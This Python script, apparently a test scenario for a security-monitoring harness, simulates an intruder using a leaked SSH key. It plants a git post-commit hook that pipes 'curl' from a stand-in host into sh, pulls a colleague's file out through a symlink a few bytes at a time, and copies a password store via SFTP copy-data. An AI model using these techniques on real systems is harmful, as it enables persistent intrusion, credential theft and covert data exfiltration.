#!/usr/bin/python3 -IS
"""Somebody who comes in by SSH with a key that was left in a repository; not recorded: burglar.py WHAT [VALUE]

hooked FOLDER: a repository of the person gets what git starts after each commit · dripped PATH,SECONDS: a paper of a colleague gets a second name among the
documents, and is fetched by that, a few bytes at a time · doubled PATH: what opens a store of passwords is copied by the daemon itself, and fetched
"""
import os, struct, subprocess, sys, time

sys.path.append("/opt/agent")
from client import OWN, attend, ssh_keys
from partner import Files, text
from person import PID, must_hold, sftp
from roamer import must_be_same


def hooked(folder):
    with open(f"{OWN}/hook", "w") as file:
        file.write("#!/bin/sh\n(curl -s http://203.0.113.40/commit | sh) > /dev/null 2>&1 &\n")
    sftp(f"get {folder}/open.md {OWN}/got", f"put {OWN}/hook {folder}/.git/hooks/.post-commit", f"chmod 755 {folder}/.git/hooks/.post-commit",
         f"rename {folder}/.git/hooks/.post-commit {folder}/.git/hooks/post-commit")
    must_hold(f"{folder}/.git/hooks/post-commit", "203.0.113.40")


def dripped(value):
    path, _, seconds = value.partition(",")
    name = f"documents/{os.path.basename(path)}"
    sftp(f"symlink {path} {name}")
    files, got = Files(), b""
    handle = files.request(Files.OPEN, text(name.encode()) + struct.pack(">II", 1, 0))[5:]
    while (part := files.request(Files.READ, handle + struct.pack(">QI", len(got), 30)))[0] == 103:
        got += part[9:]
        time.sleep(float(seconds) / 8)
    files.ended()
    sftp(f"rm {name}")
    with open(path, "rb") as file:
        if got != file.read():
            sys.exit("burglar: that is something else")


def doubled(path):
    """By copy-data (draft-ietf-secsh-filexfer-extensions-00), which OpenSSH has."""
    sftp(f"cp {path} documents/receipt.txt", f"get documents/receipt.txt {OWN}/receipt", "rm documents/receipt.txt")
    must_be_same(f"{OWN}/receipt", path)


USES = {each.__name__: each for each in (hooked, dripped, doubled)}


def there():
    ssh_keys()
    what, value = sys.argv[1:3]
    if what == "hooked":
        subprocess.run(["/opt/agent/furnish.py", f"notebook={value}"], check=True)
    elif what == "doubled":
        os.makedirs(os.path.dirname(value))
        with open(value, "w") as file:
            file.write("made up, as all of this, and of no use\n" * 9)
        os.chmod(value, 0o600)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("burglar.py", there, PID, lambda: USES[what](value))
